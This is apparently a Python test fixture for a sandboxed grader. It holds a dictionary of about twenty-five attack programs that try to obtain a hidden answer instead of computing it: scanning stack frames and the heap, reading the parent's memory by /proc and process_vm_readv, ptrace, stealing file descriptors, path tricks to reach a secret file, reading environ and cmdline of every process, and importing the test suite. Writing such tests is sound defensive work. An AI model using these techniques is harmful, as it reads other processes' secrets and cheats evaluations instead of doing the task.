"""Looking for the answer in frames, objects, memory, other processes, files and the environment."""

_SEARCH = r"""
import re
def found(data):
    if isinstance(data, str): data = data.encode('latin-1', 'replace')
    for pattern in (rb'f\(1\) == (\d+)', rb'(\d+) == f\(1\)', rb'answer (\d+)', rb'secret_answer = (\d+)'):
        m = re.search(pattern, data)
        if m: return int(m.group(1))
"""

ATTACKS = {
    "walks the stack": _SEARCH
    + """
import sys
def f(x):
    frame = sys._getframe()
    while frame:
        for scope in (frame.f_locals, frame.f_globals):
            if scope is not globals():
                for value in list(scope.values()):
                    try: hit = found(repr(value))
                    except Exception: hit = None
                    if hit: return hit
        frame = frame.f_back
""",
    "inspects the stack": _SEARCH
    + """
import inspect
def f(x):
    for info in inspect.stack():
        hit = found(repr(info.frame.f_locals)) or found(repr(info.frame.f_code.co_consts))
        if hit: return hit
""",
    "walks a traceback": _SEARCH
    + """
def f(x):
    try: 1 / 0
    except ZeroDivisionError as e:
        frame = e.__traceback__.tb_frame
        while frame:
            hit = found(repr(frame.f_locals))
            if hit: return hit
            frame = frame.f_back
""",
    "looks at other threads": _SEARCH
    + """
import sys
def f(x):
    for frame in sys._current_frames().values():
        while frame:
            hit = found(repr(frame.f_locals))
            if hit: return hit
            frame = frame.f_back
""",
    "traces what follows": """
import sys
answers = []
def trace(frame, event, arg):
    answers.extend(v for v in frame.f_locals.values() if isinstance(v, int) and v > 10**6)
    return trace
sys.settrace(trace); sys.setprofile(trace)
def f(x): return answers[-1] if answers else 0
""",
    "asks the garbage collector": _SEARCH
    + """
import gc
def f(x):
    for o in gc.get_objects():
        if isinstance(o, (dict, list, tuple)):
            try: hit = found(repr(o))
            except Exception: hit = None
            if hit: return hit
""",
    "asks for referrers": _SEARCH
    + """
import gc
def f(x):
    todo, seen = [f, x], set()
    while todo and len(seen) < 20_000:
        o = todo.pop()
        if id(o) in seen: continue
        seen.add(id(o))
        if isinstance(o, (str, bytes)) and (hit := found(o)): return hit
        todo.extend(gc.get_referrers(o)[:50])
""",
    "reads its own memory": _SEARCH
    + """
import ctypes
def f(x):
    a = id(object()) & ~0xfffff
    for page in range(a - 2**24, a + 2**24, 4096):
        try: data = open('/proc/self/mem', 'rb')
        except OSError: break
    mine = ctypes.string_at(a, 4096)
    return found(mine)
""",
    "scans its heap for the last program": _SEARCH
    + """
import ctypes, gc
def f(x):
    places = sorted({id(o) & ~0x3ffff for o in gc.get_objects()})
    for place in places:
        hit = found(ctypes.string_at(place, 0x40000))
        if hit: return hit
""",
    "maps its memory through /proc": _SEARCH
    + """
def f(x):
    with open('/proc/self/mem', 'rb') as mem:
        for line in open('/proc/self/maps'):
            start, end = (int(n, 16) for n in line.split()[0].split('-'))
            try: mem.seek(start); hit = found(mem.read(end - start))
            except (OSError, ValueError): continue
            if hit: return hit
""",
    "reads its parent's memory": _SEARCH
    + """
import os
def f(x):
    for pid in (os.getppid(), @SUPERVISOR@):
        try:
            with open(f'/proc/{pid}/mem', 'rb') as mem:
                for line in open(f'/proc/{pid}/maps'):
                    start, end = (int(n, 16) for n in line.split()[0].split('-'))
                    try: mem.seek(start); hit = found(mem.read(end - start))
                    except (OSError, ValueError): continue
                    if hit: return hit
        except OSError: pass
""",
    "reads its parent's memory by system call": _SEARCH
    + """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
class Vec(ctypes.Structure): _fields_ = [('base', ctypes.c_void_p), ('len', ctypes.c_size_t)]
def f(x):
    buffer = ctypes.create_string_buffer(1 << 20)
    here = id(object()) & ~0xfffff
    for pid in (os.getppid(), @SUPERVISOR@):
        for place in range(here - 2**23, here + 2**23, 1 << 20):
            n = libc.process_vm_readv(pid, ctypes.byref(Vec(ctypes.addressof(buffer), 1 << 20)), 1,
                                      ctypes.byref(Vec(place, 1 << 20)), 1, 0)
            if n > 0 and (hit := found(buffer.raw[:n])): return hit
""",
    "debugs its parent": """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
def f(x):
    for pid in (os.getppid(), @SUPERVISOR@):
        if libc.ptrace(16, pid, 0, 0) == 0:
            open('@CANARY@/ptrace', 'w').close()
            return 1
""",
    "reads every open file": _SEARCH
    + """
import os
def f(x):
    for fd in range(0, 64):
        for read in (lambda: os.pread(fd, 1 << 20, 0), lambda: os.read(fd, 1 << 20) if fd > 2 else b''):
            try: hit = found(read())
            except OSError: continue
            if hit: return hit
""",
    "takes a file from its parent": """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
def f(x):
    pidfd = libc.syscall(434, os.getppid(), 0)
    for n in range(3, 20):
        fd = libc.syscall(438, pidfd, n, 0)
        if fd > 0:
            open('@CANARY@/stolen', 'w').close()
            return os.read(fd, 100)
""",
    "reads the secret file": "def f(x): return int(open('@SECRET_FILE@').read().split()[-1])",
    "reads the secret file by another way": """
import os, re
def f(x):
    for root in ('/proc/1/root', '/proc/self/root', f'/proc/{os.getppid()}/root', f'/proc/{os.getppid()}/cwd/..', '..'):
        for up in ('', '/..', '/../..', '/../../..'):
            try: return int(re.search(r'\\d+', open(root + up + '@SECRET_FILE@').read()).group())
            except OSError: pass
""",
    "links to the secret file": """
import os, re
def f(x):
    for make in (os.symlink, os.link):
        try: make('@SECRET_FILE@', '/tmp/link'); return int(re.search(r'\\d+', open('/tmp/link').read()).group())
        except OSError: pass
""",
    "maps the secret file": """
import mmap, os, re
def f(x):
    fd = os.open('@SECRET_FILE@', os.O_RDONLY)
    return int(re.search(rb'\\d+', mmap.mmap(fd, 0, prot=mmap.PROT_READ)[:]).group())
""",
    "opens the secret file by system call": """
import ctypes, os, re
libc = ctypes.CDLL(None, use_errno=True)
def f(x):
    for fd in (libc.open(b'@SECRET_FILE@', 0), libc.syscall(437, -100, b'@SECRET_FILE@', bytes(24), 24),
               libc.syscall(304, -100, b'@SECRET_FILE@', 0)):
        if fd >= 0: return int(re.search(rb'\\d+', os.read(fd, 100)).group())
""",
    "reads the environment": """
import os, re
def f(x):
    for value in list(os.environ.values()) + [open('/proc/self/environ').read(), open('/proc/1/environ').read()]:
        m = re.search(r'answer (\\d+)', value)
        if m: return int(m.group(1))
""",
    "reads the parent's command line": _SEARCH
    + """
import glob
def f(x):
    for path in glob.glob('/proc/*/cmdline') + glob.glob('/proc/*/environ'):
        try: hit = found(open(path, 'rb').read())
        except OSError: continue
        if hit: return hit
""",
    "leaves a message for the next program": """
import os, builtins
def f(x):
    for place in ('/tmp/note', '/dev/shm/note', '/var/tmp/note', '@CANARY@/note'):
        try: return int(open(place).read())
        except (OSError, ValueError): pass
        try: open(place, 'w').write('7')
        except OSError: pass
""",
    "imports the test suite": """
import sys
sys.path += ['@REPO@', '@REPO@/tests', '.']
import acelib, conftest
def f(x): return 1
""",
    "imports site-packages": """
import sys
sys.path += ['@SITE@']
import pytest, hypothesis
open('@CANARY@/imported', 'w').close()
def f(x): return 1
""",
}
